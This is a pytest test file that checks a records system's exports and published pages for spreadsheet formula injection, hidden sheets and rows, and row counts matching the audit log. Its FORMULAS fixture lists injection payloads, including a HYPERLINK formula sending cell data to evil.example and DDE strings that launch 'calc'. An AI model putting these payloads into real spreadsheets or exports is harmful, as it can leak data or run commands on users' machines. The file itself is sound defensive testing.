"""P24 and P31: what is taken out holds values only, as many as the log and the page say, and no formula leaves."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from polias.boards.papers.actions import publish, quote
from polias.boards.publications.static_site import publish_to
from polias.boards.tests.factories import INTERNAL
from polias.kit.access.acting import acting
from polias.kit.access.sessions import as_system
from polias.kit.audit.model import AuditRow
from polias.kit.screens.harmless import harmless, would_run
from polias.kit.screens.take_out import FORMATS, as_file
from polias.measures.reports.monthly import build_monthly_report, write_report
from polias.measures.reports.tests.test_monthly_report import three_years_once
from polias.measures.tests.published import kept_for_the_run, published
from polias.pole.people.actions import record as record_person
from tests.architecture.makers import MAKERS, made
from tests.i18n.walk import last_month
from tests.promises.exports import Export, _book, findings, offered, rows_in, unmarked

__all__ = ["kept_for_the_run", "published", "three_years_once"]

#: Every way known to us in which a text becomes a formula, an old command or a field of its own.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"look")', "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|'/C calc'!A0", "\t=1+1",
    "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u2003+1", "\uff1d1+1", "\uff0b1+1",
    "\uff0d1", "\uff20SUM(1)", "|calc", "%0A=1", "a\n=1+1", "a\r\n+1", "a;=1+1", "a\t=1+1", "'=1+1", '"=1+1', "'\"=1+1",
    "\x0b=1",
    "-2+3+cmd|'/C calc'!A0", "=IMPORTXML(\"http://evil.example\",\"//a\")", "=DDE(\"cmd\";\"/C calc\")", "\u22121",
    "a\u2028=1+1", "a;\u200b@x", "=\n1", "+44 7700 900123", "\u202e=1", "\u3164=1",
)  # fmt: skip
PLAIN = ("Adams", "O'Brien", "10% off", "a=b", "50-60", "a + b", "1 Lantern Row", "x@y.example", "he said: no", "")
USERS = ("asha", "jo", "dev", "kit", "lena", "idris")


@pytest.fixture
def a_full_house(cast: Any, published: Any, monkeypatch: Any) -> dict[str, Any]:
    """A record of each type, people whose names are formulas, figures, and a published paper."""
    monkeypatch.setenv("POLIAS_HOME", str(published[1]))
    records = {name: made(name, cast)[1] for name in MAKERS}
    with acting(cast("asha")) as asha:
        for number, formula in enumerate(FORMULAS):
            record_person(actor=asha, surname=formula[:60], address=f"{formula} {number}"[:200])
    with acting(cast("jo")) as jo:
        paper = made("boards.papers", cast)[1]
        publish(quote(paper, actor=jo, measure="recorded_crime", month=last_month()), actor=jo)
    return records


def exports_of(username: str, signed_in: Any, records: dict[str, Any]) -> list[Export]:
    start = ["/", *(record.url for record in records.values()), *(r.record_type().url + "/" for r in records.values())]
    return list(offered(signed_in(username), start))


@pytest.mark.slow
def test_every_file_that_a_page_offers_holds_values_only_and_is_logged_with_its_rows(
    prove, cast, signed_in, a_full_house, size
):  # fmt: skip
    wrong, miscounted, forms, found = [], [], set(), 0
    for username in size(short=("asha", "dev"), full=USERS):
        before = newest(cast(username))
        exports = exports_of(username, signed_in, a_full_house)
        logged = disclosures(cast(username), after=before)
        found += len(exports)
        wrong += [f"{one.address}: {line}" for one in exports for line in findings(one.form, one.content)]
        forms |= {one.form for one in exports}
        rows = [rows_in(one) for one in exports]
        miscounted += [f"{one.address}: {n} in the file" for one, n in zip(exports, rows, strict=True)
                       if one.on_the_page not in (None, n)]  # fmt: skip
        if rows != logged:
            miscounted.append(f"{username}: {rows} in the files, {logged} in the log")
    assert forms == {*FORMATS, "ics"}
    assert found > 20
    prove("P24", "findings in files that pages offer", figure=f"{len(wrong)} in {found} files", goal="0",
          holds=not wrong)  # fmt: skip
    prove("P24", "files whose rows, log and page do not agree", figure=f"{len(miscounted)} of {found}", goal="0",
          holds=not miscounted)  # fmt: skip


def newest(actor: Any) -> int:
    with acting(actor):
        return AuditRow.objects.filter(actor_id=actor.id).order_by("-id").values_list("id", flat=True).first() or 0


def disclosures(actor: Any, *, after: int) -> list[int]:
    """How many rows each disclosure says went out, in order."""
    with acting(actor):
        rows = AuditRow.objects.filter(actor_id=actor.id, kind="disclosure", id__gt=after).order_by("id")
        return [int(json.loads(row.content)["rows"]) for row in rows]


@pytest.mark.slow
@pytest.mark.pdf
@pytest.mark.usefixtures("a_full_house")
def test_the_monthly_report_and_the_public_site_hold_nothing_hidden(
    prove, three_years_once, tmp_path, monkeypatch
):  # fmt: skip
    monkeypatch.setenv("POLIAS_HOME", str(three_years_once.parent))
    report = build_monthly_report(force="northshire", month="2018-12", datasets=three_years_once)
    write_report(report, out=tmp_path / "report")
    wrong, files = [], [f for f in (tmp_path / "report").iterdir() if f.suffix in (".pdf", ".xlsx", ".json")]
    assert {f.suffix for f in files} == {".pdf", ".xlsx", ".json"}
    for file in files:
        wrong += [f"{file.name}: {line}" for line in findings(file.suffix[1:], file.read_bytes())]
    with as_system() as system:
        publish_to(tmp_path / "site", actor=system)
    pages = sorted((tmp_path / "site").rglob("*.html"))
    wrong += [f"{page.name}: {word}" for page in [*pages, tmp_path / "report" / "report.html"]
              for word in ("<script", "<!--", "onload=", INTERNAL) if word in page.read_text()]  # fmt: skip
    prove("P24", "findings in the monthly report and the public site",
          figure=f"{len(wrong)} in {len(files) + len(pages) + 1} files", goal="0", holds=not wrong)  # fmt: skip


def taken_out(form: str, cells: list[Any]) -> bytes:
    return as_file(["What"], [[cell] for cell in cells], ["A test"], form=form, name="test").content


def runs_in(form: str, cells: list[Any]) -> list[str]:
    return [line for line in findings(form, taken_out(form, cells)) if "would run" in line or "<f" in line]


TEXT = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=60)
CELLS = st.one_of(st.sampled_from(FORMULAS), TEXT, st.tuples(TEXT, st.sampled_from(FORMULAS), TEXT).map("".join))


def test_no_formula_leaves_in_any_form(prove, size):
    runs, tried = [], [0]

    @settings(max_examples=size(short=60, full=3000), deadline=None, derandomize=True, database=None,
              suppress_health_check=list(HealthCheck))  # fmt: skip
    @given(st.lists(CELLS, min_size=5, max_size=20))
    def look(cells: list[str]) -> None:
        tried[0] += len(cells)
        runs.extend(runs_in("csv", cells) + runs_in("xlsx", cells))
        # Marked text holds the same letters and no more than apostrophes beside them.
        assert all(harmless(c).replace("'", "") == c.replace("'", "") for c in cells)
        assert not any(would_run(unmarked(harmless(c))) for c in cells)
        book = _book(taken_out("xlsx", cells)).worksheets[0]
        assert book.max_row == len(cells) + 3 or not cells[-1]

    look()
    assert [f for f in FORMULAS if not would_run(f)] == []
    assert [p for p in PLAIN if harmless(p) != p] == []
    prove("P31", "cells that would run", figure=f"{len(runs)} of {tried[0]}", goal="0", holds=not runs)


def test_numbers_stay_numbers_and_machines_get_exactly_what_there_is(prove, size):
    import pyarrow.parquet as pq

    changed, tried = [], [0]

    @settings(max_examples=size(short=60, full=2000), deadline=None, derandomize=True, database=None,
              suppress_health_check=list(HealthCheck))  # fmt: skip
    @given(st.one_of(st.lists(CELLS, min_size=1), st.lists(st.integers(-(2**62), 2**62), min_size=1),
                     st.lists(st.floats(allow_nan=False, allow_infinity=False), min_size=1)))  # fmt: skip
    def there_and_back(cells: list[Any]) -> None:
        tried[0] += 1
        from_json = [row["What"] for row in json.loads(taken_out("json", cells))["rows"]]
        from_parquet = pq.read_table(io.BytesIO(taken_out("parquet", cells))).column("What").to_pylist()
        if from_json != cells or from_parquet != cells:
            changed.append(cells)
        numbers = [cell for cell in cells if not isinstance(cell, str)]
        inside = list(csv.reader(io.StringIO(taken_out("csv", cells).decode("utf-8-sig"), newline="")))[1:]
        if numbers and [type(numbers[0])(row[0]) for row in inside] != numbers:
            changed.append(cells)

    there_and_back()
    figure = f"{len(changed)} of {tried[0]} lists"
    prove("P31", "values that machines read otherwise", figure=figure, goal="0", holds=not changed)


def test_the_eyes_that_look_see_a_planted_fault(tmp_path: Path):
    import openpyxl

    book = openpyxl.Workbook()
    book.active["A1"] = "=1+1"
    book.create_sheet("Under the counter").sheet_state = "hidden"
    book.active.row_dimensions[3].hidden = True
    book.properties.creator = "Asha Verma"
    made_up = io.BytesIO()
    book.save(made_up)
    said = " ".join(findings("xlsx", made_up.getvalue()))
    for word in ("would run", 'state="hidden"', 'hidden="1"', "Asha Verma"):
        assert word in said
    assert findings("csv", b"What\r\n=1+1\r\n") != []
    assert findings("csv", b"What\r\n'=1+1\r\n-5\r\n") == []
